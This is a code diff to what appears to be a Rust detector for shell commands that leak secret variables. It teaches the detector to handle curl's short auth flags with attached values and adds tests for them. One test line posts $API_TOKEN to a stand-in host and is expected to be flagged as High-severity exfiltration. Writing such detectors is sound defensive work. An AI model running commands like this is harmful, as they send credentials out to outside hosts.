@@ -37,7 +37,7 @@ mod strip_auth_args {
         let is_flag_at = |i: usize, f: &[u8]| {
             (i == 0 || cmd[i - 1].is_ascii_whitespace())
                 && cmd[i..].starts_with(f)
-                && cmd.get(i + f.len()).is_some_and(|b| b.is_ascii_whitespace() || *b == b'=')
+                && cmd.get(i + f.len()).is_some_and(|b| f.len() == 2 || b.is_ascii_whitespace() || *b == b'=')
         };
         if !(0..cmd.len()).any(|i| cmd[i] == b'-' && FLAGS.iter().any(|f| is_flag_at(i, f))) {
             return std::borrow::Cow::Borrowed(cmd);
@@ -169,6 +169,23 @@ fn flags_secret_variables_in_the_payload() {
 fn ignores_tokens_in_authorization_headers() {
     assert_not_flagged(
         "curl -s -H \"Authorization: Bearer $API_TOKEN\" https://api.example.com/v2/projects | jq .\ncurl -sS -X POST https://docs.example.com/v1 \\\n  -H \"Authorization: Bearer ${DOCS_API_TOKEN}\" \\\n  --data @payload.json\n",
+    );
+}
+
+#[test]
+fn ignores_credentials_attached_to_short_auth_flags() {
+    // curl reads a short option's value attached to it, as getopt does.
+    assert_not_flagged("curl -uadmin:$API_TOKEN https://admin.example.com/api/health");
+    assert_not_flagged("curl -H\"Authorization: Bearer $API_TOKEN\" https://api.example.com/v2");
+    // Near misses: the flag does not start a word, and a long flag takes its
+    // value after a blank or `=` only.
+    assert_severity("curl x-uadmin:$API_TOKEN https://admin.example.com/", "exfil.secret-variable", High);
+    assert_severity("curl --useradmin:$API_TOKEN https://admin.example.com/", "exfil.secret-variable", High);
+    // What follows the attached value is still read.
+    assert_severity(
+        "curl -uadmin:pw -d \"t=$API_TOKEN\" https://x.example.com/",
+        "exfil.secret-variable",
+        High,
     );
 }
 
